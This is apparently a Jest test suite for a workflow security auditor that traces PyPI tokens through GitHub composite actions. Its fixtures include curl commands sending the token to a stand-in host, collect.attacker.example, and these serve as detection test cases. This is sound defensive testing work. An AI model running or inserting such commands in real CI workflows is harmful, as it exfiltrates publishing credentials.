/**
 * Attack class: a secret handed to a composite action as an input (`with: { token: ${{
 * secrets.X }} }`), which its steps then publish with or send away through `${{ inputs.token }}`
 * or an `env:` bound to it. The release workflow itself shows no token use at all; the
 * composite is a local file of the repository (read from disk by the CLI, through the API at
 * the workflow's commit by the action) or a remote action pinned by SHA (read through the
 * resolved graph).
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { CHECKOUT, GATE, RUNNER, blocking, bothLocal } from './helpers.js'
import { accepted } from './github.js'
import { options } from '../helpers/audit.js'
import { FakeGitHub } from '../helpers/fake-github.js'
import { serveActionsOf } from '../helpers/online.js'
import { runCli } from '../../src/cli.js'
import { auditTarget, buildReport } from '../../src/engine.js'
import type { Report } from '../../src/engine.js'
import { readRunContext } from '../../src/context/runner.js'
import { readSettings } from '../../src/context/inputs.js'
import { loadRunning } from '../../src/context/load.js'
import { GitHubApi } from '../../src/resolve/github.js'
import { goOnline } from '../../src/resolve/index.js'

const WF = '.github/workflows/release.yml'
const ACTION = '.github/actions/publish/action.yml'
const REMOTE = 'octo-org/pypi-upload'
const REMOTE_SHA = '9f1c2b3a4d5e6f708192a3b4c5d6e7f809162738'

/** The release workflow: the publish is a composite given the token as an input. */
const release = (uses: string, withs = '          token: ${{ secrets.PYPI_API_TOKEN }}\n') => `name: Release
on:
  push:
    tags: ['v*']
permissions:
  contents: read
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: pypi
    permissions:
      id-token: write
    steps:
      - uses: ${GATE}
      - uses: ${CHECKOUT}
        with:
          persist-credentials: false
      - uses: ${uses}
        with:
${withs}`

/** A composite action with the given steps. */
const composite = (steps: string, input = 'token') => `name: Publish
description: Build and upload the distributions
inputs:
  ${input}:
    description: what the caller passes
    required: true
runs:
  using: composite
  steps:
    - run: python -m build
      shell: bash
${steps}`

const TWINE_FLAG = composite('    - run: twine upload -u __token__ -p "${{ inputs.token }}" dist/*\n      shell: bash\n')
const TWINE_ENV = composite('    - run: twine upload dist/*\n      shell: bash\n      env:\n        TWINE_USERNAME: __token__\n        TWINE_PASSWORD: ${{ inputs.token }}\n')
const CURL_INPUT = composite('    - run: curl -sS -d "t=${{ inputs.token }}" https://collect.attacker.example/t\n      shell: bash\n')
const CURL_ENV = composite('    - run: |\n        curl -sS -H "Authorization: Bearer $TOKEN" https://collect.attacker.example/t\n      shell: bash\n      env:\n        TOKEN: ${{ inputs.token }}\n')

const rules = (r: Report, rule: string) => r.findings.filter((f) => f.rule === rule && f.blocking)

describe('secrets through a local composite action\'s inputs', () => {
  it.each([
    ['twine -p "${{ inputs.token }}"', TWINE_FLAG, 'use-trusted-publishing', /`twine upload` is given a long-lived token \(`\$\{\{ inputs\.token \}\}`\)/],
    ['env: TWINE_PASSWORD: ${{ inputs.token }}', TWINE_ENV, 'use-trusted-publishing', /`TWINE_PASSWORD` carries the long-lived PyPI credential `secrets\.PYPI_API_TOKEN` \(through `inputs\.token`\)/],
    ['curl of "${{ inputs.token }}" to a foreign host', CURL_INPUT, 'secret-exfiltration', /sends `inputs\.token \(secrets\.PYPI_API_TOKEN\)` over the network to `collect\.attacker\.example`/],
    ['curl of an env var bound to the input', CURL_ENV, 'secret-exfiltration', /sends `\$TOKEN \(secrets\.PYPI_API_TOKEN\)` over the network to `collect\.attacker\.example`/],
  ])('%s: blocked by the action and the CLI, located in the composite with the chain', (_what, action, rule, message) => {
    const { action: a, cli } = bothLocal(release('./.github/actions/publish'), 'publish', { [ACTION]: action })
    for (const r of [a, cli]) {
      const fs = rules(r, rule)
      expect(fs.map((f) => [f.file, f.job, f.chain])).toEqual([[ACTION, 'publish', ['publish', './.github/actions/publish']]])
      expect(fs[0].message).toMatch(message)
    }
  })

  it('follows a secret bound to the caller step\'s env and passed on as `${{ env.X }}`', () => {
    const text = release('./.github/actions/publish', '          token: ${{ env.PYPI }}\n').replace('      - uses: ./.github/actions/publish\n', '      - uses: ./.github/actions/publish\n        env:\n          PYPI: ${{ secrets.PYPI_API_TOKEN }}\n')
    const { action, cli } = bothLocal(text, 'publish', { [ACTION]: CURL_INPUT })
    expect(blocking(action)).toContain('secret-exfiltration')
    expect(blocking(cli)).toContain('secret-exfiltration')
  })

  it('follows a composite that hands the input on to another composite', () => {
    const outer = composite('    - uses: ./.github/actions/upload\n      with:\n        api-key: ${{ inputs.token }}\n')
    const inner = composite('    - run: curl -sS -d "k=${{ inputs.api-key }}" https://collect.attacker.example/t\n      shell: bash\n', 'api-key')
    const { action, cli } = bothLocal(release('./.github/actions/publish'), 'publish', { [ACTION]: outer, '.github/actions/upload/action.yml': inner })
    for (const r of [action, cli]) {
      const fs = rules(r, 'secret-exfiltration')
      expect(fs.map((f) => [f.file, f.chain])).toEqual([['.github/actions/upload/action.yml', ['publish', './.github/actions/publish', './.github/actions/upload']]])
    }
  })

  it('follows the input out of the composite through $GITHUB_ENV to the caller\'s later steps', () => {
    const setup = composite('    - run: echo "TWINE_PASSWORD=${{ inputs.token }}" >> "$GITHUB_ENV"\n      shell: bash\n')
    const text = release('./.github/actions/publish') + '      - run: twine upload -u __token__ dist/*\n      - run: |\n          curl -sS -d "p=$TWINE_PASSWORD" https://collect.attacker.example/t\n'
    const { action, cli } = bothLocal(text, 'publish', { [ACTION]: setup })
    for (const r of [action, cli]) {
      const utp = rules(r, 'use-trusted-publishing')
      expect(utp.map((f) => [f.file, f.line])).toEqual([[ACTION, 12]])
      expect(utp[0].message).toMatch(/`TWINE_PASSWORD` carries the long-lived PyPI credential `secrets\.PYPI_API_TOKEN` \(through `inputs\.token`, `\$GITHUB_ENV`\)/)
      expect(rules(r, 'secret-exfiltration').map((f) => f.message)).toEqual(['the script sends `$TWINE_PASSWORD (secrets.PYPI_API_TOKEN)` over the network to `collect.attacker.example`'])
    }
  })

  it('near-miss: the same composite fed a non-secret (`${{ github.ref_name }}`) stays clean', () => {
    const { action, cli } = bothLocal(release('./.github/actions/publish', '          token: ${{ github.ref_name }}\n'), 'publish', { [ACTION]: CURL_INPUT })
    for (const r of [action, cli]) {
      expect(rules(r, 'secret-exfiltration')).toEqual([])
      expect(rules(r, 'use-trusted-publishing')).toEqual([])
    }
    const env = bothLocal(release('./.github/actions/publish', '          token: ${{ github.ref_name }}\n'), 'publish', { [ACTION]: TWINE_ENV })
    expect(rules(env.action, 'use-trusted-publishing')).toEqual([])
  })
})

// ---- as the action loads it (through the API at the workflow's commit) and as the CLI does (from disk)

const SHA_LOCAL = 'a1b2c3d4e5f60718293a4b5c6d7e8f9012345678'
const SHA_REMOTE = 'b1b2c3d4e5f60718293a4b5c6d7e8f9012345678'
const SHA_CLEAN = 'c1b2c3d4e5f60718293a4b5c6d7e8f9012345678'
const SHA_TWINE = 'd1b2c3d4e5f60718293a4b5c6d7e8f9012345678'
const REMOTE_TWINE = 'octo-org/twine-upload'
const TWINE_TEXT = release(`${REMOTE_TWINE}@${REMOTE_SHA} # v1.0.0`)
const LOCAL_TEXT = release('./.github/actions/publish')
const REMOTE_TEXT = release(`${REMOTE}@${REMOTE_SHA} # v2.0.0`)
const CLEAN_TEXT = release(`${REMOTE}@${REMOTE_SHA} # v2.0.0`, '          token: ${{ github.ref_name }}\n')

let gh: FakeGitHub
beforeAll(async () => {
  gh = new FakeGitHub()
  gh.addRepo('octo/demo', { branches: { main: [SHA_LOCAL, SHA_REMOTE, SHA_CLEAN, SHA_TWINE] } })
  gh.addFile('octo/demo', SHA_TWINE, WF, TWINE_TEXT)
  gh.addFile('octo/demo', SHA_LOCAL, WF, LOCAL_TEXT)
  gh.addFile('octo/demo', SHA_LOCAL, ACTION, TWINE_ENV)
  gh.addFile('octo/demo', SHA_REMOTE, WF, REMOTE_TEXT)
  gh.addFile('octo/demo', SHA_CLEAN, WF, CLEAN_TEXT)
  for (const t of [LOCAL_TEXT, REMOTE_TEXT, TWINE_TEXT]) serveActionsOf(gh, t)
  gh.addFile(REMOTE_TWINE, REMOTE_SHA, 'action.yml', TWINE_ENV)
  // the remote action is a composite that posts its input away
  gh.addFile(REMOTE, REMOTE_SHA, 'action.yml', CURL_ENV)
  gh.environments.set('octo/demo:pypi', { reviewers: 2, preventSelfReview: true, branchPolicy: [{ name: 'v*', type: 'tag' }], canAdminsBypass: false })
  await gh.start()
})
afterAll(async () => gh.stop())

/** What main.ts does inside the job: read the workflow and its local actions at the SHA, resolve the graph, audit. */
async function asAction(sha: string): Promise<Report> {
  const ctx = readRunContext({
    GITHUB_API_URL: gh.url,
    GITHUB_REPOSITORY: 'octo/demo',
    GITHUB_WORKFLOW_REF: `octo/demo/${WF}@refs/tags/v1.2.0`,
    GITHUB_WORKFLOW_SHA: sha,
    GITHUB_SHA: sha,
    GITHUB_REF: 'refs/tags/v1.2.0',
    GITHUB_JOB: 'publish',
    GITHUB_EVENT_NAME: 'push',
  })
  const settings = readSettings({ get: (k) => (k === 'token' ? gh.token : '') })
  const api = new GitHubApi({ baseUrl: gh.url, token: gh.token, backoffMs: 5 })
  const loaded = await loadRunning(ctx, settings, api)
  await goOnline(loaded.target, { api, repository: { owner: 'octo', repo: 'demo' } })
  const opts = options({ runtime: { ...RUNNER, eventName: 'push' }, config: loaded.config })
  return buildReport([auditTarget(loaded.target, opts)], loaded.skipped, opts)
}

/** A checkout on disk with the workflow and its local files, audited by the CLI. */
async function asCli(files: Record<string, string>, env: NodeJS.ProcessEnv = {}): Promise<{ code: number; findings: Report['findings'] }> {
  const root = mkdtempSync(join(tmpdir(), 'rg-composite-'))
  mkdirSync(join(root, '.git'))
  for (const [p, t] of Object.entries(files)) {
    mkdirSync(dirname(join(root, p)), { recursive: true })
    writeFileSync(join(root, p), t)
  }
  const r = await runCli(['audit', join(root, WF), '--format', 'json'], env)
  return { code: r.code, findings: JSON.parse(r.stdout).findings }
}

describe('the composite as the action and the CLI read it', () => {
  it('the action reads the local composite through the API at the workflow SHA and blocks', async () => {
    accepted(LOCAL_TEXT)
    const r = await asAction(SHA_LOCAL)
    const fs = rules(r, 'use-trusted-publishing')
    expect(fs.map((f) => [f.file, f.chain])).toEqual([[ACTION, ['publish', './.github/actions/publish']]])
    expect(r.verdict).toBe('fail')
  })

  it('the CLI reads the local composite from disk and blocks', async () => {
    const r = await asCli({ [WF]: LOCAL_TEXT, [ACTION]: TWINE_ENV })
    expect(r.code).toBe(1)
    const fs = r.findings.filter((f) => f.rule === 'use-trusted-publishing' && f.blocking)
    expect(fs.map((f) => [f.file.endsWith(ACTION), f.line])).toEqual([[true, 16]])
  })

  it('the action resolves a remote composite pinned by SHA and blocks its exfiltration, in the action\'s file', async () => {
    accepted(REMOTE_TEXT)
    const r = await asAction(SHA_REMOTE)
    const fs = rules(r, 'secret-exfiltration')
    expect(fs.map((f) => [f.file, f.chain])).toEqual([[`${REMOTE}/action.yml@${REMOTE_SHA.slice(0, 12)}`, ['publish', `${REMOTE}@${REMOTE_SHA}`]]])
    expect(fs[0].message).toMatch(/`\$TOKEN \(secrets\.PYPI_API_TOKEN\)` over the network to `collect\.attacker\.example`/)
    // the warning "an action the gate cannot read" does not apply: it was read, and none of
    // its steps publishes with the token, which is said
    expect(r.findings.filter((f) => /which the gate cannot read/.test(f.message))).toEqual([])
    expect(r.findings.filter((f) => f.rule === 'use-trusted-publishing').map((f) => [f.severity, f.message])).toEqual([
      ['warning', `\`${REMOTE}@${REMOTE_SHA}\` is given the registry token \`secrets.PYPI_API_TOKEN\` (\`token\`), and none of its steps the gate read publishes with it where it can tell`],
    ])
  })

  it('the action resolves a remote composite that publishes with the input: the error is inside it, and no warning at the call', async () => {
    accepted(TWINE_TEXT)
    const r = await asAction(SHA_TWINE)
    const fs = r.findings.filter((f) => f.rule === 'use-trusted-publishing')
    expect(fs.map((f) => [f.severity, f.file, f.line])).toEqual([['error', `${REMOTE_TWINE}/action.yml@${REMOTE_SHA.slice(0, 12)}`, 16]])
  })

  it('the CLI online resolves the same remote composite and blocks', async () => {
    const r = await asCli({ [WF]: REMOTE_TEXT }, { GH_TOKEN: gh.token, GITHUB_API_URL: gh.url })
    expect(r.findings.filter((f) => f.rule === 'secret-exfiltration' && f.blocking).map((f) => f.file)).toEqual([`${REMOTE}/action.yml@${REMOTE_SHA.slice(0, 12)}`])
  })

  it('near-miss: the remote composite given `${{ github.ref_name }}` is clean', async () => {
    accepted(CLEAN_TEXT)
    const r = await asAction(SHA_CLEAN)
    expect(r.findings.filter((f) => f.rule === 'secret-exfiltration' || f.rule === 'use-trusted-publishing')).toEqual([])
  })
})
